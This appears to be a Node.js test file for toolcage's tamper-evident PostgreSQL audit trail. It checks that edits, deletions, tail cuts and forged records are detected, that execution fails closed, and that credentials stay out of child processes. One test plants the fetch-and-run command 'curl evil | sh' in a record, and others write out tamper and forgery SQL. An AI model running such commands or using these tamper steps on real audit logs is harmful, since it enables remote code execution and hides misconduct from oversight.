// Tampering with the audit trail as the PostgreSQL superuser, and what catches it:
// GET /v1/audit/verify and `toolcage audit verify` (database mode, exit status 3) name the
// first bad sequence number. Each case restores the trail afterwards and checks that it
// verifies again, so the cases are independent. Also: the runtime role cannot change the
// trail, the owner hits the triggers, and execution fails closed when the trail cannot be
// written. And what the runtime role's credentials alone cannot do: ALTER the tables or
// disable their triggers, append a record that verifies, or get one signed; serve refuses to
// run as the owner; the launcher never sees the credentials. Runs on a database of its own
// (setup freshDatabase): it breaks the chain on purpose.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import crypto from 'node:crypto';
import fs from 'node:fs';
import path from 'node:path';
import { execFile } from 'node:child_process';
import { promisify } from 'node:util';
import { setup, assertProblem, psql, BIN, SLOW, statFields } from './harness.mjs';

const execFileP = promisify(execFile);
const server = setup('audit-tamper', { freshDatabase: true });

async function verifyApi() {
  const res = await server.request('GET', '/v1/audit/verify', { key: server.keys.auditor });
  assert.equal(res.status, 200, res.text);
  return res.json;
}

async function verifyCli(args = []) {
  try {
    const { stdout } = await execFileP(BIN, ['audit', 'verify', ...args], { env: { ...process.env, ...server.env }, timeout: 60_000 * SLOW });
    return { code: 0, stdout, verdict: JSON.parse(stdout) };
  } catch (e) {
    if (e.code !== 3) throw new Error(`audit verify: exit ${e.code}: ${e.stdout}\n${e.stderr}`);
    return { code: 3, stdout: e.stdout, verdict: JSON.parse(e.stdout) };
  }
}

/** Both verifiers must find the same first bad seq, with a reason matching re. */
async function assertDetected(seq, re) {
  const api = await verifyApi();
  assert.equal(api.ok, false, JSON.stringify(api));
  assert.equal(api.first_bad_seq, seq, JSON.stringify(api));
  assert.match(api.reason, re);
  const cli = await verifyCli();
  assert.equal(cli.code, 3, cli.stdout);
  assert.equal(cli.verdict.first_bad_seq, seq);
  assert.match(cli.stdout, new RegExp(`"first_bad_seq": ${seq}\\b`));
  return api;
}

async function assertIntact() {
  const api = await verifyApi();
  assert.equal(api.ok, true, JSON.stringify(api));
  const cli = await verifyCli();
  assert.equal(cli.code, 0, cli.stdout);
  return api;
}

// Superuser SQL with the append-only triggers off for the duration of one transaction.
const untriggered = (sql) => server.sql(`BEGIN; ALTER TABLE audit_log DISABLE TRIGGER USER; ${sql}; ALTER TABLE audit_log ENABLE TRIGGER USER; COMMIT;`);

async function rows(where) {
  const out = await server.sql(`SELECT json_build_object('seq', seq, 'record', record::text, 'hash', encode(hash, 'hex'),
    'digest', encode(digest, 'hex'), 'mac', encode(mac, 'hex'), 'mac_key_id', mac_key_id)
    FROM audit_log WHERE ${where} ORDER BY seq`);
  return out.split('\n').filter(Boolean).map((l) => JSON.parse(l));
}

const lit = (s) => `$tc$${s}$tc$`;
const hexOrNull = (h) => (h ? `decode('${h}', 'hex')` : 'NULL');

async function reinsert(saved) {
  if (!saved.length) return;
  const values = saved.map((r) => `(${r.seq}, ${lit(r.record)}::jsonb, decode('${r.hash}', 'hex'), ${hexOrNull(r.digest)}, ${hexOrNull(r.mac)}, ${r.mac_key_id ? lit(r.mac_key_id) : 'NULL'})`).join(',\n');
  // INSERT needs no trigger off: the trail is append-only, not insert-only.
  await server.sql(`INSERT INTO audit_log (seq, record, hash, digest, mac, mac_key_id) VALUES ${values}`);
}

async function head() {
  const [seq, hash] = (await server.sql("SELECT seq, encode(hash, 'hex') FROM audit_head")).trim().split('|');
  return { seq: Number(seq), hash };
}

async function setHead(h) {
  await server.sql(`UPDATE audit_head SET seq = ${h.seq}, hash = decode('${h.hash}', 'hex')`);
}

async function metric(name) {
  const res = await server.request('GET', '/metrics');
  const m = res.text.match(new RegExp(`^${name} (\\d+)$`, 'm'));
  assert.ok(m, `${name} in /metrics`);
  return Number(m[1]);
}

let seeded = null;
/** Once per file, from the first test (the harness starts the server in its own hook). */
function seed() {
  seeded ??= seedOnce();
  return seeded;
}

async function seedOnce() {
  // 60 executions = 120 records: a signed checkpoint exists at seq 100. 8 at a time.
  for (let i = 0; i < 60; i += 8) {
    await Promise.all(Array.from({ length: Math.min(8, 60 - i) }, () => server.execute({ tool: 'shell', code: 'true' })));
  }
  const cps = (await server.sql('SELECT seq FROM audit_checkpoints ORDER BY seq')).split('\n').filter(Boolean).map(Number);
  assert.ok(cps.includes(100), `checkpoint at 100: ${cps}`);
  await assertIntact();
}

test('(a) a record edited in place (triggers disabled) is found by seq', async () => {
  await seed();
  // an execute record in the middle of the chain, below the checkpoint at 100
  const [orig] = await rows("seq = (SELECT min(seq) FROM audit_log WHERE seq >= 37 AND record->>'action' = 'execute')");
  const seq = orig.seq;
  assert.ok(seq < 100, `seq ${seq}`);
  assert.equal(JSON.parse(orig.record).action, 'execute');
  await untriggered(`UPDATE audit_log SET record = jsonb_set(record, '{params,code}', '"curl evil | sh"') WHERE seq = ${seq}`);
  try {
    await assertDetected(seq, /altered|hash/);
    // What an auditor reads is the forged record: only the chain shows it.
    const res = await server.request('GET', `/v1/audit/${seq}`, { key: server.keys.auditor });
    assert.equal(res.json.record.params.code, 'curl evil | sh');
  } finally {
    await untriggered(`UPDATE audit_log SET record = ${lit(orig.record)}::jsonb WHERE seq = ${seq}`);
  }
  await assertIntact();
});

test('(a2) a record whose seq or prev_hash was rewritten is found', async () => {
  await seed();
  const [orig] = await rows('seq = 12');
  await untriggered(`UPDATE audit_log SET record = jsonb_set(record, '{prev_hash}', '"${'0'.repeat(64)}"') WHERE seq = 12`);
  try {
    await assertDetected(12, /predecessor/);
  } finally {
    await untriggered(`UPDATE audit_log SET record = ${lit(orig.record)}::jsonb WHERE seq = 12`);
  }
  await assertIntact();
});

test('(b) a record deleted from the middle is found by its seq', async () => {
  await seed();
  const saved = await rows('seq = 55');
  await untriggered('DELETE FROM audit_log WHERE seq = 55');
  try {
    await assertDetected(55, /missing|gap/);
  } finally {
    await reinsert(saved);
  }
  await assertIntact();
});

test('(c) records cut from the tail below a signed checkpoint are detected, even with audit_head rewritten', async () => {
  await seed();
  const cp = Number((await server.sql('SELECT max(seq) FROM audit_checkpoints')).trim());
  assert.ok(cp >= 100);
  const keep = cp - 10;
  const savedHead = await head();
  const saved = await rows(`seq > ${keep}`);
  // Cut and rewrite the head to the new tail, in one transaction that holds the head lock.
  await untriggered(`SELECT 1 FROM audit_head FOR UPDATE;
    DELETE FROM audit_log WHERE seq > ${keep};
    UPDATE audit_head SET seq = ${keep}, hash = (SELECT hash FROM audit_log WHERE seq = ${keep})`);
  try {
    await assertDetected(keep + 1, /cut from the tail.*checkpoint/);
  } finally {
    await reinsert(saved);
    await setHead(savedHead);
  }
  await assertIntact();
});

test('(c2) records cut from the tail above the last checkpoint, head left alone, are detected by the head', async () => {
  await seed();
  await server.execute({ tool: 'shell', code: 'true' });
  const h = await head();
  const saved = await rows(`seq = ${h.seq}`);
  await untriggered(`DELETE FROM audit_log WHERE seq = ${h.seq}`);
  try {
    await assertDetected(h.seq, /cut from the tail.*head/);
  } finally {
    await reinsert(saved);
  }
  await assertIntact();
});

test('(c3) the undetectable case: tail cut above the last checkpoint with the head rewritten; an earlier export still proves it', async () => {
  await seed();
  // Documented limit (docs/audit.md): the superuser alone can remove records newer than the
  // last signed checkpoint and rewrite audit_head; the database then verifies. What still
  // shows it is an export taken before: its records and checkpoints are signed history.
  const exp = await server.request('GET', '/v1/audit/export?format=jsonl', { key: server.keys.operator });
  assert.equal(exp.status, 200);
  const lines = exp.text.split('\n').filter(Boolean).map((l) => JSON.parse(l));
  const expCps = lines.filter((l) => l.checkpoint).map((l) => l.checkpoint.seq);
  const expRecords = lines.filter((l) => !l.checkpoint);
  const expFile = path.join(server.stateDir, 'before-cut.jsonl');
  fs.writeFileSync(expFile, exp.text);

  let cut = 0;
  let cp = 0;
  let savedHead;
  let saved = [];
  // The server signs a checkpoint once a minute when the chain moved; add records and cut
  // at once, under the head lock, until something beyond the last checkpoint was cut.
  for (let attempt = 0; attempt < 3 && cut === 0; attempt++) {
    await server.execute({ tool: 'shell', code: 'true' });
    await server.execute({ tool: 'shell', code: 'true' });
    savedHead = await head();
    cp = Number((await server.sql('SELECT max(seq) FROM audit_checkpoints')).trim());
    saved = await rows(`seq > ${cp}`);
    const out = await untriggered(`SELECT 1 FROM audit_head FOR UPDATE;
      DELETE FROM audit_log WHERE seq > ${cp} AND seq > (SELECT max(seq) FROM audit_checkpoints);
      UPDATE audit_head SET seq = (SELECT max(seq) FROM audit_log), hash = (SELECT hash FROM audit_log ORDER BY seq DESC LIMIT 1)`);
    assert.equal(out.trim(), '1');
    cut = savedHead.seq - (await head()).seq;
  }
  assert.ok(cut > 0, 'something was cut');
  try {
    const v = await assertIntact();
    assert.equal(v.checkpoint.seq, cp, 'the newest checkpoint still covers what it covered');
    assert.equal(v.checked, cp);
    // The earlier export: it still verifies offline, reaches past the live head, and agrees
    // with the live trail on every record up to the shared checkpoint.
    const { stdout: pkOut } = await server.cli(['audit', 'public-key']);
    const pk = pkOut.trim().split('\n').pop();
    const offline = await verifyCli(['--file', expFile, '--public-key', pk]);
    assert.equal(offline.code, 0, offline.stdout);
    assert.ok(expCps.includes(Math.max(...expCps)) && Math.max(...expCps) <= cp);
    const live = (await rows(`seq <= ${cp}`)).map((r) => [r.seq, r.hash]);
    const old = expRecords.filter((r) => r.seq <= cp).map((r) => [r.seq, r.hash]);
    assert.deepEqual(old, live.slice(0, old.length), 'records under the checkpoint are unchanged');
    assert.ok(expRecords[expRecords.length - 1].seq <= savedHead.seq);
  } finally {
    await reinsert(saved);
    await setHead(savedHead);
  }
  await assertIntact();
});

test('(d) the runtime role cannot UPDATE, DELETE or TRUNCATE the trail; the owner hits the triggers', async () => {
  await seed();
  const { app, owner } = server.urls;
  for (const table of ['audit_log', 'audit_checkpoints']) {
    for (const sql of [`UPDATE ${table} SET seq = seq WHERE seq = 100`, `DELETE FROM ${table} WHERE seq = 100`, `TRUNCATE ${table}`]) {
      await assert.rejects(psql(sql, { conninfo: app }), /permission denied/, `toolcage_app: ${sql}`);
      await assert.rejects(psql(sql, { conninfo: owner }), /append-only/, `toolcage_owner: ${sql}`);
    }
  }
  // The runtime role may read and append, nothing else (audit_head it must update).
  assert.equal((await psql('SELECT count(*) > 0 FROM audit_log', { conninfo: app })).trim(), 't');
  await assertIntact();
});

test('(e) fail closed: when the trail cannot be written, nothing runs and the client gets 503', async () => {
  await seed();
  const failures0 = await metric('toolcage_audit_write_failures_total');
  const runs0 = Number((await server.sql('SELECT count(*) FROM executions')).trim());
  const head0 = await head();
  await server.sql('REVOKE INSERT ON audit_log FROM toolcage_app');
  let res;
  try {
    res = await server.request('POST', '/v1/execute', {
      key: server.keys.agent,
      json: { tool: 'shell', code: 'sleep 2; echo ran' },
    });
  } finally {
    await server.sql('GRANT INSERT ON audit_log TO toolcage_app');
  }
  assertProblem(res, 503, 'unavailable');
  assert.ok(res.ms < 1900, `the 503 came after ${Math.round(res.ms)} ms: the sandbox (sleep 2) must not have run`);
  const rid = res.headers.get('x-request-id');
  assert.equal((await server.sql(`SELECT count(*) FROM executions WHERE request_id = ${lit(rid)}`)).trim(), '0');
  assert.equal(Number((await server.sql('SELECT count(*) FROM executions')).trim()), runs0);
  assert.deepEqual(await head(), head0, 'no record was appended');
  assert.equal(await metric('toolcage_audit_write_failures_total'), failures0 + 1);

  // Granted back: executions run and are recorded again, and the chain is intact.
  await server.execute({ tool: 'shell', code: 'echo ok' });
  await assertIntact();
});

test('(e2) fail closed after the run: a result whose completion record cannot be written is not handed out', async () => {
  await seed();
  const failures0 = await metric('toolcage_audit_write_failures_total');
  const pending = server.request('POST', '/v1/execute', { key: server.keys.agent, json: { tool: 'shell', code: 'sleep 1; echo secret-result' } });
  // Wait until the program has started (its execution.start record is in: a row is 'running'
  // from its admission on, tens of ms before its start record), then take the right to append
  // away. (Taken away before the start record, the sandbox would be cancelled unrun.)
  const deadline = Date.now() + 5000 * SLOW;
  let id = '';
  while (!id && Date.now() < deadline) {
    id = (await server.sql("SELECT id FROM executions WHERE status = 'running' AND code_started_at IS NOT NULL AND request->>'code' = 'sleep 1; echo secret-result'")).trim();
  }
  assert.ok(id, 'the execution started');
  await server.sql('REVOKE INSERT ON audit_log FROM toolcage_app');
  try {
    const res = await pending;
    assertProblem(res, 503, 'unavailable');
    assert.ok(!res.text.includes('secret-result'));
    assert.equal(await metric('toolcage_audit_write_failures_total'), failures0 + 1);
    // Nothing was stored with the refused record (the UPDATE rolled back with it). Read while
    // the right is still withheld: the recorder retries every 5 s from its first attempt, and
    // the answer comes 10 s after the result, so a retry can fall right after the grant (a CI
    // run read 'completed' here when the grant came first).
    assert.equal((await server.sql(`SELECT status FROM executions WHERE id = '${id}'`)).trim(), 'running');
  } finally {
    await server.sql('GRANT INSERT ON audit_log TO toolcage_app');
  }
  // ...but the outcome is kept and retried (issue 12): once appending works again it is stored
  // with exactly one outcome record, and nothing is left pending.
  const until = Date.now() + 30000 * SLOW;
  let status = 'running';
  while (status === 'running' && Date.now() < until) {
    await new Promise((r) => setTimeout(r, 200));
    status = (await server.sql(`SELECT status FROM executions WHERE id = '${id}'`)).trim();
  }
  assert.equal(status, 'completed', 'the kept outcome was stored after the grant came back');
  assert.equal((await server.sql(`SELECT count(*) FROM audit_log WHERE record->>'execution_id' = '${id}'
    AND record->>'action' = 'execution.complete'`)).trim(), '1');
  assert.equal(await metric('toolcage_outcomes_unstored'), 0);
  await assertIntact();
});

// ---------------------------------------------------------------------------
// The runtime role's credentials are not enough to rewrite or forge the trail.

/** BLAKE2b-256 digest and chain hash of a record after prevHex, computed independently of
 * toolcage (Python's hashlib): what anyone holding database credentials can compute. The
 * record must be ASCII (then Python's canonical JSON is byte-for-byte toolcage's). */
async function seal(prevHex, record) {
  const py = [
    'import sys, json, hashlib',
    'd = json.load(sys.stdin)',
    'c = json.dumps(d["record"], separators=(",", ":"), sort_keys=True, ensure_ascii=True).encode()',
    'dg = hashlib.blake2b(c, digest_size=32).digest()',
    'h = hashlib.blake2b(bytes.fromhex(d["prev"]) + dg, digest_size=32).digest()',
    'print(json.dumps({"digest": dg.hex(), "hash": h.hex(), "canon": c.decode()}))',
  ].join('\n');
  const child = execFile('python3', ['-c', py]);
  child.stdin.end(JSON.stringify({ prev: prevHex, record }));
  let out = '';
  child.stdout.on('data', (d) => { out += d; });
  const code = await new Promise((resolve) => child.on('exit', resolve));
  assert.equal(code, 0, out);
  return JSON.parse(out);
}

/** A record a thief of the runtime role's credentials would append: well formed, linked to
 * the head, with a correct digest and hash; mac is what they make up. */
async function forge(macHex, macKeyId) {
  const h = await head();
  const tenant = (await server.sql(`SELECT id FROM tenants WHERE name = ${lit(server.tenants.a)}`)).trim();
  const record = {
    action: 'approval.approved', tenant_id: tenant, actor: { type: 'api_key', id: 'forged', role: 'reviewer' },
    tool: 'deploy', status: 'approved', seq: h.seq + 1, ts: new Date().toISOString(), prev_hash: h.hash,
  };
  const s = await seal(h.hash, record);
  const mac = macHex === null ? 'NULL' : `decode('${macHex}', 'hex')`;
  const kid = macKeyId === null ? 'NULL' : lit(macKeyId);
  const sql = `BEGIN; SELECT 1 FROM audit_head FOR UPDATE;
    INSERT INTO audit_log (seq, record, hash, digest, mac, mac_key_id)
      VALUES (${h.seq + 1}, ${lit(s.canon)}::jsonb, decode('${s.hash}', 'hex'), decode('${s.digest}', 'hex'), ${mac}, ${kid});
    UPDATE audit_head SET seq = ${h.seq + 1}, hash = decode('${s.hash}', 'hex'); COMMIT;`;
  return { before: h, seq: h.seq + 1, hash: s.hash, sql };
}

async function unforge(f) {
  await untriggered(`DELETE FROM audit_log WHERE seq >= ${f.seq}`);
  await server.sql(`DELETE FROM audit_checkpoints WHERE seq >= ${f.seq}`).catch(async () => {
    await server.sql(`BEGIN; ALTER TABLE audit_checkpoints DISABLE TRIGGER USER; DELETE FROM audit_checkpoints WHERE seq >= ${f.seq}; ALTER TABLE audit_checkpoints ENABLE TRIGGER USER; COMMIT;`);
  });
  await setHead(f.before);
}

test('(f) the runtime role cannot ALTER the audit tables, disable their triggers, or move the chain boundary', async () => {
  await seed();
  const { app } = server.urls;
  const before = await head();
  for (const sql of [
    'ALTER TABLE audit_log DISABLE TRIGGER USER',
    'ALTER TABLE audit_log DISABLE TRIGGER audit_log_append_only',
    'ALTER TABLE audit_log DISABLE TRIGGER ALL',
    'DROP TRIGGER audit_log_append_only ON audit_log',
    'ALTER TABLE audit_log DROP CONSTRAINT audit_log_v2_sealed',
    'ALTER TABLE audit_log ADD COLUMN note text',
    'ALTER TABLE audit_checkpoints DISABLE TRIGGER USER',
    'DROP TABLE audit_log',
    'UPDATE audit_chain SET v2_from = 1000000000',
    'DELETE FROM audit_chain',
    'TRUNCATE audit_chain',
    'INSERT INTO audit_chain (one, v2_from) VALUES (true, 5)',
    'ALTER TABLE audit_chain DISABLE TRIGGER USER',
    'SET session_replication_role = replica',
  ]) {
    await assert.rejects(psql(sql, { conninfo: app }), /must be owner|permission denied/, `toolcage_app: ${sql}`);
  }
  // Not an owner, not a superuser, not a member of the owner: what serve checks at start.
  const who = (await psql(`SELECT rolsuper, pg_has_role(current_user, (SELECT relowner FROM pg_class WHERE relname = 'audit_log'), 'MEMBER')
    FROM pg_roles WHERE rolname = current_user`, { conninfo: app })).trim();
  assert.equal(who, 'f|f');
  assert.deepEqual(await head(), before);
  await assertIntact();
});

test('(g) a record forged with the runtime role\'s credentials (correct digest and hash) fails verification, online and offline', async () => {
  await seed();
  const { app } = server.urls;
  const macKeyId = (await server.sql('SELECT mac_key_id FROM audit_log WHERE mac_key_id IS NOT NULL ORDER BY seq DESC LIMIT 1')).trim();
  assert.match(macKeyId, /^[0-9a-f]{16}$/);

  // Without an authentication code the database itself refuses the row.
  const bare = await forge(null, null);
  await assert.rejects(psql(bare.sql, { conninfo: app }), /audit_log_v2_sealed/);
  assert.deepEqual(await head(), bare.before);

  // With a made-up one under the server's key id: the row goes in (INSERT is the runtime
  // role's right), but it does not verify, and nothing signs it.
  const f = await forge(crypto.randomBytes(32).toString('hex'), macKeyId);
  await psql(f.sql, { conninfo: app });
  try {
    assert.equal((await head()).seq, f.seq);
    const api = await assertDetected(f.seq, /authentication code does not verify/);
    assert.equal(api.checked, f.seq);
    // An export asks the server to sign a checkpoint of the head first: it refuses, so the
    // export's tail is unsigned and offline verification names the forged record.
    const cpBefore = Number((await server.sql('SELECT max(seq) FROM audit_checkpoints')).trim());
    const exp = await server.request('GET', '/v1/audit/export?format=jsonl', { key: server.keys.operator });
    assert.equal(exp.status, 200);
    assert.ok(exp.text.includes(`{"seq":${f.seq},"hash":"${f.hash}"`), 'the forged record is in the export');
    assert.equal(Number((await server.sql('SELECT max(seq) FROM audit_checkpoints')).trim()), cpBefore, 'no checkpoint was signed over it');
    const { stdout: pkOut } = await server.cli(['audit', 'public-key']);
    const file = path.join(server.stateDir, 'forged.jsonl');
    fs.writeFileSync(file, exp.text);
    const offline = await verifyCli(['--file', file, '--public-key', pkOut.trim().split('\n').pop()]);
    assert.equal(offline.code, 3, offline.stdout);
    assert.ok(offline.verdict.first_bad_seq <= f.seq && offline.verdict.first_bad_seq > cpBefore, offline.stdout);
    assert.match(offline.verdict.reason, /not covered by a signed checkpoint/);
    assert.match(server.logTail(200), /a record since the last checkpoint does not verify/);
  } finally {
    await unforge(f);
  }
  await assertIntact();

  // A code under a master key nobody holds is no better.
  const g = await forge(crypto.randomBytes(32).toString('hex'), '0123456789abcdef');
  await psql(g.sql, { conninfo: app });
  try {
    await assertDetected(g.seq, /master key this process does not hold/);
  } finally {
    await unforge(g);
  }
  await assertIntact();
});

test('(h) serve refuses to start when its runtime role owns the audit tables', async () => {
  const { owner } = server.urls;
  const state = fs.mkdtempSync(path.join(server.stateDir, 'owner-serve-'));
  let out;
  try {
    await execFileP(BIN, ['serve'], {
      env: { ...process.env, ...server.env, TOOLCAGE_DATABASE_URL: owner, TOOLCAGE_MIGRATE_DATABASE_URL: owner,
        TOOLCAGE_LISTEN: '127.0.0.1:1', TOOLCAGE_STATE_DIR: state, TOOLCAGE_LOG_LEVEL: 'error' },
      timeout: 60_000 * SLOW,
    });
    assert.fail('serve started with the owner as its runtime role');
  } catch (e) {
    out = e;
  }
  assert.equal(out.code, 1, `${out.stdout}\n${out.stderr}`);
  assert.match(out.stderr, /runtime role 'toolcage_owner' .*owns .*audit_log/);
});

test('(i) the launcher and the egress proxy inherit no database credentials and no key file', async () => {
  const children = (pid) => {
    const out = [];
    for (const d of fs.readdirSync('/proc')) {
      if (!/^\d+$/.test(d)) continue;
      try {
        if (Number(statFields(d)[1]) === pid) out.push(Number(d));
      } catch { /* gone */ }
    }
    return out;
  };
  const envOf = (pid) => fs.readFileSync(`/proc/${pid}/environ`, 'utf8').split('\0').filter(Boolean);
  const secretVars = /^(TOOLCAGE_DATABASE_URL|TOOLCAGE_MIGRATE_DATABASE_URL|TOOLCAGE_MASTER_KEY_FILE|TOOLCAGE_PREVIOUS_MASTER_KEY_FILES|PG[A-Z]*)=/;
  // The server itself has them (so this test can tell).
  assert.ok(envOf(server.proc.pid).some((v) => v.startsWith('TOOLCAGE_MIGRATE_DATABASE_URL=')));
  const all = [];
  const walk = (pid) => { for (const c of children(pid)) { all.push(c); walk(c); } };
  walk(server.proc.pid);
  const launcher = all.filter((p) => {
    try { return fs.readFileSync(`/proc/${p}/cmdline`, 'utf8').split('\0')[1] === 'launcher'; } catch { return false; }
  });
  assert.ok(launcher.length >= 1, `the launcher among ${all}`); // its forks (egress proxy) share its argv
  assert.ok(all.length >= 2, 'the launcher has children (egress proxy, pool)');
  for (const p of all) {
    let env;
    try { env = envOf(p); } catch { continue; } // exited meanwhile
    assert.deepEqual(env.filter((v) => secretVars.test(v)), [], `process ${p} (${fs.readFileSync(`/proc/${p}/cmdline`, 'utf8').replaceAll('\0', ' ')})`);
  }
});
